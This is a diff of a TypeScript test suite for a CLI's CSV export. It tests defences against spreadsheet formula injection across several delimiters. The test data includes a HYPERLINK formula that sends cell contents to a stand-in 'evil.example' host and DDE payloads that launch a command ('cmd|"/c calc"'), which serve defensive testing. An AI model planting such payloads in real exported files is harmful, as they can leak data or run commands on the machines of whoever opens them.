@@ -70,7 +70,7 @@ it('lists, shows, exports and writes documents', { timeout: 60_000 }, async () =
   const json = cli('export', '--format', 'json')
   expect(JSON.parse(json.stdout)).toHaveLength(1)
   const csv = cli('export', '--format', 'csv')
-  expect(csv.stdout.split('\r\n')[0]).toMatch(/^id,created_at,form_type/)
+  expect(csv.stdout.split('\r\n')[0]).toMatch(/^"id","created_at","form_type"/)
   expect(csv.stdout).toContain('"Example, ""Agency"""')
   expect(csv.stdout).toContain(`"'=HYPERLINK(""http://evil"")"`)
 
@@ -83,10 +83,103 @@ it('lists, shows, exports and writes documents', { timeout: 60_000 }, async () =
   expect(cli('nonsense').stderr).toContain('Usage')
 })
 
-it('quotes CSV cells and defuses formulas', () => {
-  expect(csvCell('plain')).toBe('plain')
+/**
+ * Reads delimited text the way spreadsheet importers do: a quote opens a quoted field only at the start
+ * of a field, "" inside it is one quote, and whatever follows a closing quote up to the next delimiter
+ * joins the field as written. Reading the export with ';' or a tab is what Excel does in a locale
+ * whose list separator is not a comma.
+ */
+function readDelimited(text: string, delimiter: string): string[][] {
+  const rows: string[][] = []
+  let row: string[] = []
+  let field = ''
+  let quoted = false
+  let atFieldStart = true
+  for (let index = 0; index < text.length; index += 1) {
+    const char = text[index] ?? ''
+    if (quoted) {
+      if (char === '"' && text[index + 1] === '"') {
+        field += '"'
+        index += 1
+      } else if (char === '"') quoted = false
+      else field += char
+    } else if (char === '"' && atFieldStart) {
+      quoted = true
+      atFieldStart = false
+    } else if (char === delimiter) {
+      row.push(field)
+      field = ''
+      atFieldStart = true
+    } else if (char === '\r' && text[index + 1] === '\n') {
+      row.push(field)
+      rows.push(row)
+      row = []
+      field = ''
+      atFieldStart = true
+      index += 1
+    } else {
+      field += char
+      atFieldStart = false
+    }
+  }
+  if (field || row.length > 0) rows.push([...row, field])
+  return rows
+}
+
+/** A cell a spreadsheet would run: a formula character first, after blanks and invisible characters. */
+const RUNS_AS_FORMULA = /^[\s"\p{Cc}\p{Cf}]*[=+\-@]/u
+
+const HOSTILE_CELLS = [
+  'ACME;=1+1',
+  '=HYPERLINK("https://evil.example/?"&A1,"Open")',
+  '+1',
+  '-1+2',
+  '@SUM(1+1)',
+  '\t=1',
+  'a,=1',
+  'a\t=1',
+  'a|=cmd|"/c calc"!A1',
+  'ACME; "=1+1',
+  'Needs:\r\n- ERP\r\n=1+1',
+  '+1 703 555 0100',
+]
+
+it('quotes every CSV cell and doubles its quotes', () => {
+  expect(csvCell('plain')).toBe('"plain"')
   expect(csvCell('a,b')).toBe('"a,b"')
-  expect(csvCell('+1 703')).toBe("'+1 703")
+  expect(csvCell('say "hi"')).toBe('"say ""hi"""')
+  expect(csvCell('')).toBe('""')
+})
+
+it('disarms a formula at the start of a cell and after any character a spreadsheet may split on', () => {
+  expect(csvCell('ACME;=1+1')).toBe(`"ACME;'=1+1"`)
+  expect(csvCell('=HYPERLINK("x")')).toBe(`"'=HYPERLINK(""x"")"`)
+  expect(csvCell('-1+2')).toBe(`"'-1+2"`)
+  expect(csvCell('@SUM(1+1)')).toBe(`"'@SUM(1+1)"`)
+  expect(csvCell('\t=1')).toBe(`"'\t'=1"`)
+  expect(csvCell('a,=1')).toBe(`"a,'=1"`)
+  expect(csvCell('a\t=1')).toBe(`"a\t'=1"`)
+  // A phone number in international form is disarmed too; it still reads as the number.
+  expect(csvCell('+1 703 555 0100')).toBe(`"'+1 703 555 0100"`)
+  expect(csvCell('9-month timeline, 2 phases')).toBe('"9-month timeline, 2 phases"')
+})
+
+it('leaves no cell that runs as a formula, whichever delimiter a spreadsheet splits the export on', () => {
+  const line = HOSTILE_CELLS.map(csvCell).join(',')
+  for (const delimiter of [',', ';', '\t', '|']) {
+    const cells = readDelimited(`${line}\r\n`, delimiter).flat()
+    expect(
+      cells.filter((cell) => RUNS_AS_FORMULA.test(cell)),
+      `split on ${JSON.stringify(delimiter)}`,
+    ).toEqual([])
+  }
+})
+
+it('reads back, split on commas, as the text that was stored with an apostrophe before each formula', () => {
+  const [cells] = readDelimited(`${HOSTILE_CELLS.map(csvCell).join(',')}\r\n`, ',')
+  expect(cells).toHaveLength(HOSTILE_CELLS.length)
+  expect(cells?.map((cell) => cell.replaceAll("'", ''))).toEqual(HOSTILE_CELLS)
+  expect(cells?.[0]).toBe("ACME;'=1+1")
 })
 
 /** Anything but a line break that a terminal would act on rather than show. */
@@ -128,11 +221,11 @@ it('never prints stored control characters raw, guards every CSV formula and nev
   expect(JSON.parse(show.stdout.replaceAll('\\u202e', ''))).toMatchObject({ id: hostile })
 
   const csv = cli('export', '--format', 'csv').stdout
-  const row = csv.split('\r\n').find((line) => line.startsWith(hostile)) ?? ''
+  const row = csv.split('\r\n').find((line) => line.startsWith(`"${hostile}"`)) ?? ''
   expect(MULTI_LINE_FORBIDDEN.test(row)).toBe(false)
   // The company cell starts with a control character before the =; the message with blanks before @.
   expect(row).toContain(`"'\\x01=cmd|""/c calc""!A1"`)
-  expect(row).toContain(`' \t@SUM(1+1)`)
+  expect(row).toContain(`" \t'@SUM(1+1)"`)
 
   const out = join(dataDir, 'existing.pdf')
   await writeFile(out, 'the staff member’s own file')
